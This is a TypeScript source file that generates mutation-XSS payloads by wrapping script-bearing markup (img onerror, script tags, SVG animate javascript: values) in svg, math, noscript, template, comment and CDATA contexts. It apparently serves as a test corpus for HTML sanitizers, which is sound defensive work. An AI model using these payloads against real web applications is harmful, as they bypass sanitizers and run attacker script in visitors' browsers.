import { cross, script } from './cross.ts';

const image = `<img src=x onerror=${script}>`;

/** Elements that change how what is in them is read, so that reading twice gives two things. */
const outer: ((inner: string) => string)[] = [
  (inner) => `<svg>${inner}</svg>`,
  (inner) => `<math>${inner}</math>`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<svg><desc>${inner}</desc></svg>`,
  (inner) => `<svg></p><style>${inner}`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) => `<math><mtext><table><mglyph><style>${inner}</style></table></mtext></math>`,
  (inner) => `<math><mi><mglyph>${inner}</mglyph></mi><malignmark>${inner}`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<table><caption><svg><title><table>${inner}</table></title>`,
  (inner) => `<select><option><template>${inner}</template></select>`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<noembed>${inner}</noembed><noframes>${inner}</noframes>`,
  (inner) => `<textarea>${inner}</textarea><title>${inner}</title>`,
  (inner) => `<xmp>${inner}</xmp><plaintext>${inner}`,
  (inner) => `<style><!--</style>${inner}-->`,
  (inner) => `<script><!--<script></script>${inner}--></script>`,
  (inner) => `<!--><!---->${inner}<!--!> --!>${inner}`,
  (inner) => `<![CDATA[${inner}]]><?xml ${inner}?><!DOCTYPE ${inner}>`,
  (inner) => `<iframe srcdoc='${inner}'></iframe>`,
  (inner) => `<a><p><a></p>${inner}</a><b><i></b>${inner}</i>`,
  (inner) => `<ruby><rt><table></rt>${inner}</table><nobr><nobr>${inner}`,
];

const inner = [
  image,
  `<script>${script}</script>`,
  `</style>${image}`,
  `</title></textarea>${image}`,
  `<a title="</style>${image}">x</a>`,
  `<p id="--><img src=x onerror=${script}>">`,
  `&lt;img src=x onerror=${script}&gt;`,
  `&amp;lt;script&amp;gt;${script}&amp;lt;/script&amp;gt;`,
  `<!--\n${image}\n-->`,
  `<animate attributeName=href values=javascript:${script} />`,
  `<set attributeName=onmouseover to=${script}>`,
  `\n\n${image}\n\n`,
];

/** Markup that means one thing to a sanitizer and another to a browser. */
export const namespaces = cross(outer, inner, (wrap, words) => wrap(words));
